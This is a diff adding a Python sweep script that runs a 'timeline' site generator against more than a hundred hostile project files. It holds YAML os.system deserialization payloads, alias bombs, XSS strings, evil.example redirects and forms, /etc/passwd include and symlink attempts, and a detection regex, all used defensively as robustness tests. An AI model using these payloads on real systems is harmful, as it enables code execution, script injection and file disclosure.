@@ -1,0 +1,294 @@
+"""Hostile project files and articles against the `timeline` command (a third sweep).
+
+    .venv/bin/python benchmarks/hostile_project.py [ATTACK ...]
+
+Each attack is made on a fresh copy of a small project (`timeline init`, three of sources/,
+entities.yaml): odd front matter, Markdown nested past any real page or written in MkDocs'
+own syntax, odd file names, entities.yaml, curation.yaml, mkdocs.yml and templates edited
+badly. Then `timeline check` and (where it says so) `timeline build` run on it, each in its
+own process with a 300 s time-out. Printed per attack and command: the exit code, the
+seconds, TRACEBACK if Python's traceback was printed, the last lines of what it said, and,
+after a build, UNSAFE if a page of site/ holds a script, handler or link of the article's.
+What each should give (docs/benchmarks.md, "A third sweep"): one clear line naming the file
+(and line) or a site, never a traceback, a wait or an unsafe page. No assertion: a sweep.
+"""
+import os
+import re
+import shutil
+import subprocess
+import sys
+import tempfile
+import time
+from pathlib import Path
+
+ROOT = Path(__file__).resolve().parent.parent
+BIN = Path(sys.executable).parent
+WORK = Path(tempfile.mkdtemp(prefix="hostile-project-"))
+BASE = WORK / "base"
+FM = '---\ntitle: "A hostile article"\nurl: https://example.com/{n}\npublished: 2025-09-03\n---\n'
+BODY = "Putin met Zelensky in Moscow on 3 September 2025, the Kremlin said.\n"
+# what an article may not put in a page: its own script, a handler, a javascript: link
+UNSAFE = re.compile(r"<script>alert|<svg onload|\son(?:click|load|error)=|href=\"javascript:|"
+                    r"<iframe src=//evil|<base href=\"https://evil")
+
+
+def base():
+    if BASE.exists():
+        return
+    subprocess.run([BIN / "timeline", "init", "--name", "T", str(BASE)], check=True,
+                   capture_output=True)
+    for f in sorted((ROOT / "sources").glob("*.md"))[:3]:
+        shutil.copy(f, BASE / "sources" / f.name)
+    shutil.copy(ROOT / "entities.yaml", BASE / "entities.yaml")
+
+
+def src(name, text):
+    return lambda p: (p / "sources" / name).write_bytes(
+        text.encode("utf-8") if isinstance(text, str) else text)
+
+
+def art(body, fm=None, name="h.md"):
+    return src(name, (fm or FM.format(n="h")) + body)
+
+
+def write(rel, data):
+    def f(p):
+        t = p / rel
+        if t.is_dir() and not t.is_symlink():
+            shutil.rmtree(t)
+        elif t.exists():
+            t.unlink()
+        t.write_bytes(data.encode() if isinstance(data, str) else data)
+    return f
+
+
+ATTACKS = {}
+
+
+def attack(name, build=True):
+    def deco(f):
+        ATTACKS[name] = (f, build)
+        return f
+    return deco
+
+
+def unsafe(site: Path) -> str:
+    for page in sorted(site.rglob("*.html")):
+        text = page.read_text(encoding="utf-8", errors="replace")
+        if (m := UNSAFE.search(text)) is not None:
+            return f" UNSAFE {page.relative_to(site)}: {m.group()}"
+    return ""
+
+
+def run(name, f, do_build):
+    p = WORK / name
+    shutil.copytree(BASE, p, symlinks=True)
+    f(p)
+    out = {}
+    for cmd in [["check"]] + ([["build", "--jobs", "1"]] if do_build else []):
+        t = time.time()
+        try:
+            r = subprocess.run([BIN / "timeline", *cmd], cwd=p, capture_output=True, text=True,
+                               timeout=300)
+            rc, err = r.returncode, r.stderr
+        except subprocess.TimeoutExpired:
+            rc, err = "TIMEOUT", ""
+        extra = unsafe(p / "site") if cmd[0] == "build" and (p / "site").is_dir() else ""
+        out[cmd[0]] = (rc, round(time.time() - t, 1), err, extra)
+    shutil.rmtree(p, ignore_errors=True)
+    return out
+
+
+def fm(extra, title='"A hostile article"', url="https://example.com/x", pub="2025-09-03"):
+    return f"---\ntitle: {title}\nurl: {url}\npublished: {pub}\n{extra}---\n"
+
+
+# ---- front matter
+bomb = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(f"{chr(98+i)}: &{chr(98+i)} [" + ",".join([f"*{chr(97+i)}"]*9) + "]\n" for i in range(8))
+attack("fm-alias-bomb", False)(art(BODY, fm(bomb)))
+attack("fm-python-object", False)(art(BODY, fm("", title="!!python/object/apply:os.system ['echo pwned']")))
+attack("fm-python-name-key", False)(art(BODY, fm("!!python/name:os.system x: 1\n")))
+attack("fm-huge-number", False)(art(BODY, fm("", pub="9" * 5000)))
+attack("fm-huge-title", False)(art(BODY, fm("", title="1e99999")))
+attack("fm-date-as-timestamp", False)(art(BODY, fm("", pub="2025-09-03T10:00:00+03:00")))
+attack("fm-date-as-list", False)(art(BODY, fm("", pub="[2025-09-03]")))
+attack("fm-date-as-int", False)(art(BODY, fm("", pub="20250903")))
+attack("fm-title-list", False)(art(BODY, fm("", title="[a, b]")))
+attack("fm-title-map", False)(art(BODY, fm("", title="{a: b}")))
+attack("fm-url-list", False)(art(BODY, fm("", url="[https://example.com/a]")))
+attack("fm-outlet-list", False)(art(BODY, fm("outlet: [Reuters, AP]\n")))
+attack("fm-tags-nested", False)(art(BODY, fm("tags: [[a], [b]]\n")))
+attack("fm-bom-middle-key", False)(art(BODY, "---\n\ufefftitle: x\nurl: https://example.com/b\npublished: 2025-09-03\n---\n"))
+attack("fm-bom-middle-value", True)(art(BODY, fm("", title='"A\ufeffB"')))
+attack("fm-bom-before-fence2", False)(art(BODY, "\ufeff---\ntitle: x\nurl: https://example.com/b\npublished: 2025-09-03\n\ufeff---\n"))
+attack("fm-merge-key", False)(art(BODY, fm("base: &b {outlet: X}\n<<: *b\n")))
+attack("fm-binary", False)(art(BODY, fm("notes: !!binary aGVsbG8=\n")))
+attack("fm-set", False)(art(BODY, fm("tags: !!set {a, b}\n")))
+attack("fm-complex-key", False)(art(BODY, fm("? [a, b]\n: c\n")))
+attack("fm-null-key", False)(art(BODY, fm("~: c\n")))
+attack("fm-bool-key", False)(art(BODY, fm("true: c\n")))
+attack("fm-title-yes", True)(art(BODY, fm("", title="yes")))
+attack("fm-title-null", False)(art(BODY, fm("", title="null")))
+attack("fm-title-multiline", True)(art(BODY, fm("", title="|\n  line one\n  line two")))
+attack("fm-deep-flow", False)(art(BODY, fm("notes: " + "[" * 5000 + "]" * 5000 + "\n")))
+attack("fm-long-yaml", False)(art(BODY, fm("notes:\n" + "".join(f"  - note {i}\n" for i in range(120000)))))
+attack("fm-many-keys", False)(art(BODY, fm("".join(f"k{i}: v\n" for i in range(60000)))))
+attack("fm-published-estimated-list", False)(art(BODY, fm("published_estimated: [true]\n")))
+attack("fm-language-list", False)(art(BODY, fm("language: [en]\n")))
+attack("fm-follows-list", False)(art(BODY, fm("follows: [a]\n")))
+attack("fm-follows-url-list", False)(art(BODY, fm("follows: {url: [a]}\n")))
+attack("fm-follows-published-int", False)(art(BODY, fm("follows: {published: 20250101}\n")))
+attack("fm-follows-key-list", False)(art(BODY, fm("follows: {[a]: b}\n")))
+attack("fm-three-fences", True)(art("---\n" + BODY, fm("")))
+attack("fm-crlf", True)(art(BODY.replace("\n", "\r\n"), fm("").replace("\n", "\r\n")))
+attack("fm-tab-indent", False)(art(BODY, fm("follows:\n\turl: x\n")))
+
+# ---- markdown body
+attack("md-1000-list")(art("".join("  " * i + f"- Putin met on {1 + i % 28} May 2025\n" for i in range(1000))))
+attack("md-1000-quote")(art("".join(">" * i + f" Putin met on {1 + i % 28} May 2025\n" for i in range(1, 1000))))
+attack("md-quote-one-line")(art(">" * 5000 + " Putin met on 3 May 2025.\n"))
+attack("md-list-one-line")(art("- " * 5000 + "Putin met on 3 May 2025.\n"))
+attack("md-huge-table")(art("| a | b |\n|---|---|\n" + "".join(f"| {1 + i % 28} May 2025 | Putin met {i} |\n" for i in range(20000))))
+attack("md-giant-link")(art("Putin met on 3 May 2025 [here](https://example.com/" + "a" * 500000 + ").\n"))
+attack("md-comment-open")(art("Putin met on 3 May 2025. <!-- never closed\n" + BODY * 50))
+attack("md-script-style-iframe")(art("<script>alert(1)</script><style>body{display:none}</style><iframe src=//evil.example></iframe> Putin met on 3 May 2025.\n"))
+attack("md-jinja-raw")(art("{% raw %}{{ config }}{% endraw %} {{ 7*7 }} {% include 'x' %} Putin met on 3 May 2025.\n"))
+attack("md-snippet")(art('--8<-- "/etc/passwd"\n\n;--8<-- "mkdocs.yml"\n\nPutin met on 3 May 2025.\n'))
+attack("md-admonition")(art('!!! danger "Putin met on 3 May 2025"\n    <script>alert(1)</script>\n\n??? note\n    x\n'))
+attack("md-attr-list")(art('Putin met on 3 May 2025. {: onclick="alert(1)" }\n\n# Heading {: #x onclick=alert(1) }\n'))
+attack("md-html-entity-bomb")(art("&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E; Putin met on 3 May 2025. &lt;b&gt;\n"))
+attack("md-md-in-html")(art('<div markdown="1">\n[x](javascript:alert(1)) Putin met on 3 May 2025.\n</div>\n'))
+attack("md-link-js")(art('[click](javascript:alert(1)) <a href="javascript:alert(1)">a</a> Putin met on 3 May 2025.\n'))
+attack("md-data-uri")(art('![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) Putin met on 3 May 2025.\n'))
+attack("md-svg")(art('<svg onload=alert(1)><script>alert(2)</script></svg> Putin met on 3 May 2025.\n'))
+attack("md-null-escape")(art('Putin met on 3 May 2025 \\u0000 &#0; &#x0; &#xD800;.\n'))
+attack("md-heading-only")(art("# Putin met on 3 May 2025\n"))
+attack("md-1000-emph")(art("*" * 20000 + "Putin met on 3 May 2025" + "*" * 20000 + "\n"))
+attack("md-brackets")(art("[" * 20000 + "Putin met on 3 May 2025" + "]" * 20000 + "\n"))
+attack("md-backticks-many")(art("`" * 20000 + " Putin met on 3 May 2025.\n"))
+attack("md-pre-tag-open")(art("<pre>\n" + BODY * 100))
+attack("md-textarea-open")(art("<textarea>\n" + BODY * 10))
+attack("md-base-tag")(art('<base href="https://evil.example/"> <meta http-equiv="refresh" content="0;url=https://evil.example"> Putin met on 3 May 2025.\n'))
+attack("md-form")(art('<form action="https://evil.example"><input name=x></form> Putin met on 3 May 2025.\n'))
+attack("md-cdata")(art('<![CDATA[ ]]> Putin met on 3 May 2025. ]]> <?xml ?>\n'))
+attack("md-footnote-loop")(art("Putin met on 3 May 2025.[^1]\n\n[^1]: See [^1].\n"))
+attack("md-abbr")(art("*[Putin]: <script>alert(1)</script>\n\nPutin met on 3 May 2025.\n"))
+attack("md-toc-marker")(art("[TOC]\n\nPutin met on 3 May 2025.\n"))
+attack("md-mkdocs-macros")(art("{{ config.site_name }} {%- for x in range(10**9) %}{% endfor %} Putin met on 3 May 2025.\n"))
+attack("md-bidi-filename", True)(art(BODY, name="evil\u202egpj.md"))
+
+# ---- file names
+attack("fn-leading-dash")(art(BODY, name="-rf.md"))
+attack("fn-double-dash")(art(BODY, name="--help.md"))
+attack("fn-spaces")(art(BODY, name="  a  b  .md"))
+attack("fn-newline")(art(BODY, name="a\nb.md"))
+attack("fn-tab")(art(BODY, name="a\tb.md"))
+attack("fn-long")(art(BODY, name="a" * 250 + ".md"))
+attack("fn-case-collide")(lambda p: (art(BODY, name="Story.md")(p), art(BODY.replace("3 S", "4 S"), fm("", url="https://example.com/y"), name="story.md")(p)))
+attack("fn-MD")(art(BODY, name="upper.MD"))
+attack("fn-Md-only", False)(lambda p: [f.unlink() for f in (p/"sources").glob("*.md")] and art(BODY, name="only.MD")(p))
+attack("fn-dot-md")(art(BODY, name=".md"))
+attack("fn-hidden")(art(BODY, name=".hidden.md"))
+attack("fn-percent")(art(BODY, name="100%25 a%2Fb.md"))
+attack("fn-hash-question")(art(BODY, name="a#b?c.md"))
+attack("fn-quote")(art(BODY, name="a\"b'c<d>.md"))
+attack("fn-backslash")(art(BODY, name="a\\b.md"))
+attack("fn-dir-named-md")(lambda p: (p/"sources"/"dir.md").mkdir())
+attack("fn-subdir")(lambda p: ((p/"sources"/"sub").mkdir(), art(BODY, name="sub/x.md")(p)))
+attack("fn-subdir-same-stem")(lambda p: ((p/"sources"/"sub").mkdir(), art(BODY, name="sub/h.md")(p), art(BODY, fm("", url="https://example.com/z"), name="h.md")(p)))
+attack("fn-curation-upper")(lambda p: (p/"sources"/"CURATION.YAML").write_text("- hide: c-x\n  reason: r\n"))
+attack("fn-curation-yml")(lambda p: (p/"sources"/"curation.yml").write_text("- hide: c-x\n  reason: r\n"))
+
+# ---- entities.yaml
+ENT = "entities:\n  - {id: vladimir-putin, name: Vladimir Putin, kind: person, aliases: [Putin]}\n"
+attack("ent-latin1")(write("entities.yaml", ENT.encode() + "  - {id: x, name: Caf\u00e9, kind: place}\n".encode("latin-1")))
+attack("ent-utf16")(write("entities.yaml", ENT.encode("utf-16")))
+attack("ent-dir")(lambda p: ((p/"entities.yaml").unlink(), (p/"entities.yaml").mkdir()))
+attack("ent-alias-bomb")(write("entities.yaml", "a: &a [" + ",".join(f"N{i}x" for i in range(2000)) + "]\nentities:\n" + "".join(f"  - {{id: e{i}, name: E{i}q, kind: person, aliases: *a}}\n" for i in range(2000))))
+attack("ent-python-object")(write("entities.yaml", "entities:\n  - !!python/object/apply:os.system ['echo pwned']\n"))
+attack("ent-name-list")(write("entities.yaml", "entities:\n  - {id: x, name: [a, b], kind: person}\n"))
+attack("ent-name-int")(write("entities.yaml", "entities:\n  - {id: x, name: 42, kind: person}\n"))
+attack("ent-role-list")(write("entities.yaml", ENT + "  - {id: x, name: Xavier Q, kind: person, role: [a]}\n"))
+attack("ent-kind-bad")(write("entities.yaml", "entities:\n  - {id: x, name: X, kind: Person}\n"))
+attack("ent-regex-name")(write("entities.yaml", ENT + "  - {id: x, name: '(.*)+', kind: place}\n  - {id: y, name: '\\\\b', kind: place}\n"))
+attack("ent-zero-width-name")(write("entities.yaml", ENT + "  - {id: x, name: \"\\u200b\", kind: place}\n"))
+attack("ent-long-name")(write("entities.yaml", ENT + f"  - {{id: x, name: {'Ab' * 5000}, kind: place}}\n"))
+attack("ent-prefix-chain")(write("entities.yaml", ENT + "".join(f"  - {{id: x{i}, name: {'A' + 'a' * i}, kind: place}}\n" for i in range(1500))))
+attack("ent-html-name")(write("entities.yaml", ENT + "  - {id: x, name: '<script>alert(1)</script> Moscow', kind: place, aliases: [Moscow]}\n"))
+attack("ent-dup-key")(write("entities.yaml", "entities:\n  - {id: x, name: X, name: Y, kind: place}\n"))
+attack("ent-entities-map")(write("entities.yaml", "entities: {a: b}\n"))
+attack("ent-empty")(write("entities.yaml", ""))
+attack("ent-tabs")(write("entities.yaml", "entities:\n\t- {id: x, name: X, kind: place}\n"))
+attack("ent-side-self")(write("entities.yaml", "entities:\n  - {id: x, name: Xq, kind: place, side: x}\n"))
+attack("ent-side-cycle")(write("entities.yaml", "entities:\n  - {id: x, name: Xq, kind: place, side: y}\n  - {id: y, name: Yq, kind: place, side: x}\n"))
+attack("ent-id-unicode")(write("entities.yaml", "entities:\n  - {id: путин, name: Путин, kind: person}\n"))
+attack("ent-8000")(write("entities.yaml", "entities:\n" + "".join(f"  - {{id: e{i}, name: Name{i} Person{i}, kind: person, aliases: [P{i}x]}}\n" for i in range(8000))))
+
+# ---- curation.yaml
+CUR = "sources/curation.yaml"
+attack("cur-alias-bomb")(write(CUR, "- &a {hide: c-x, reason: r}\n- *a\n"))
+attack("cur-python")(write(CUR, "- !!python/object/apply:os.system ['echo pwned']\n"))
+attack("cur-binary")(write(CUR, b"\x00\x01\x02"))
+attack("cur-utf16")(write(CUR, "- hide: c-x\n  reason: r\n".encode("utf-16")))
+attack("cur-bom")(write(CUR, "\ufeff[]\n"))
+attack("cur-mapping")(write(CUR, "hide: c-x\n"))
+attack("cur-scalar")(write(CUR, "just text\n"))
+attack("cur-huge-list")(write(CUR, "".join(f"- hide: c-{i:010x}\n  reason: r\n" for i in range(30000))))
+attack("cur-merge-self")(write(CUR, "- merge: [e-1, e-1]\n  reason: r\n"))
+attack("cur-date-int")(write(CUR, "- date: e-1\n  start: 20250101\n  reason: r\n"))
+attack("cur-phase-huge")(write(CUR, "- phase: x\n  start: 0001-01-01\n  end: 9999-12-30\n"))
+attack("cur-reason-list")(write(CUR, "- hide: c-x\n  reason: [a]\n"))
+attack("cur-deep")(write(CUR, "- hide: " + "[" * 3000 + "]" * 3000 + "\n  reason: r\n"))
+attack("cur-symlink-out")(lambda p: ((p/CUR).unlink(), os.symlink("/etc/passwd", p/CUR)))
+attack("cur-fifo", False)(lambda p: ((p/CUR).unlink(), os.mkfifo(p/CUR)))
+
+# ---- mkdocs.yml
+def mk(edit):
+    def f(p):
+        t = (p/"mkdocs.yml").read_text()
+        (p/"mkdocs.yml").write_text(edit(t))
+    return f
+attack("mk-latin1")(lambda p: (p/"mkdocs.yml").write_bytes((p/"mkdocs.yml").read_bytes() + "# caf\u00e9\n".encode("latin-1")))
+attack("mk-invalid-yaml")(mk(lambda t: t + "\n: : [\n"))
+attack("mk-site-name-list")(mk(lambda t: t.replace("site_name:", "site_name: [a, b]\nx_site_name:")))
+attack("mk-site-name-html")(mk(lambda t: t.replace("site_name:", "site_name: \"<script>alert(1)</script>\"\nx_site_name:")))
+attack("mk-site-name-empty")(mk(lambda t: t.replace("site_name:", "site_name: ''\nx_site_name:")))
+attack("mk-python-tag")(mk(lambda t: t + "\nextra: !!python/object/apply:os.system ['echo pwned']\n"))
+attack("mk-docs-dir-escape")(mk(lambda t: t + "\ndocs_dir: /etc\n"))
+attack("mk-site-dir-escape")(mk(lambda t: t + "\nsite_dir: ../escaped-site\n"))
+attack("mk-site-dir-docs")(mk(lambda t: t + "\nsite_dir: docs/out\n"))
+attack("mk-directory-urls-str")(mk(lambda t: t + "\nuse_directory_urls: 'no'\n"))
+attack("mk-dir")(lambda p: ((p/"mkdocs.yml").unlink(), (p/"mkdocs.yml").mkdir()))
+attack("mk-missing")(lambda p: (p/"mkdocs.yml").unlink())
+attack("mk-site-url-js")(mk(lambda t: t + "\nsite_url: javascript:alert(1)\n"))
+attack("mk-nav-bad")(mk(lambda t: t + "\nnav: 42\n"))
+attack("mk-plugins-unknown")(mk(lambda t: t + "\nplugins:\n  - nonexistent-plugin\n"))
+attack("mk-hooks-missing")(mk(lambda t: t + "\nhooks:\n  - nothere.py\n"))
+attack("mk-env-missing")(mk(lambda t: t + "\nsite_url: !ENV NOPE_NOT_SET\n"))
+attack("mk-utf8-bom")(lambda p: (p/"mkdocs.yml").write_bytes(b"\xef\xbb\xbf" + (p/"mkdocs.yml").read_bytes()))
+
+# ---- templates
+attack("tpl-dir")(lambda p: ((p/"site_templates"/"event.md.j2").unlink(), (p/"site_templates"/"event.md.j2").mkdir()))
+attack("tpl-latin1")(lambda p: (p/"site_templates"/"event.md.j2").write_bytes((p/"site_templates"/"event.md.j2").read_bytes() + b"\xe9"))
+attack("tpl-missing")(lambda p: (p/"site_templates"/"event.md.j2").unlink())
+attack("tpl-recursion")(lambda p: (p/"site_templates"/"event.md.j2").write_text("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}"))
+attack("tpl-loop")(lambda p: (p/"site_templates"/"home.md.j2").write_text("{% for i in range(10**7) %}x{% endfor %}"))
+
+
+def main(argv: list[str]) -> int:
+    base()
+    for name, (f, b) in ATTACKS.items():
+        if argv and name not in argv:
+            continue
+        line = [name]
+        for k, (rc, t, err, extra) in run(name, f, b).items():
+            tb = " TRACEBACK" if "Traceback" in err else ""
+            last = " / ".join(x[:160] for x in err.strip().splitlines()[-2:])
+            line.append(f"{k}: rc={rc} {t}s{tb}{extra} {last}")
+        print("\n   ".join(line), flush=True)
+    shutil.rmtree(WORK, ignore_errors=True)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main(sys.argv[1:]))
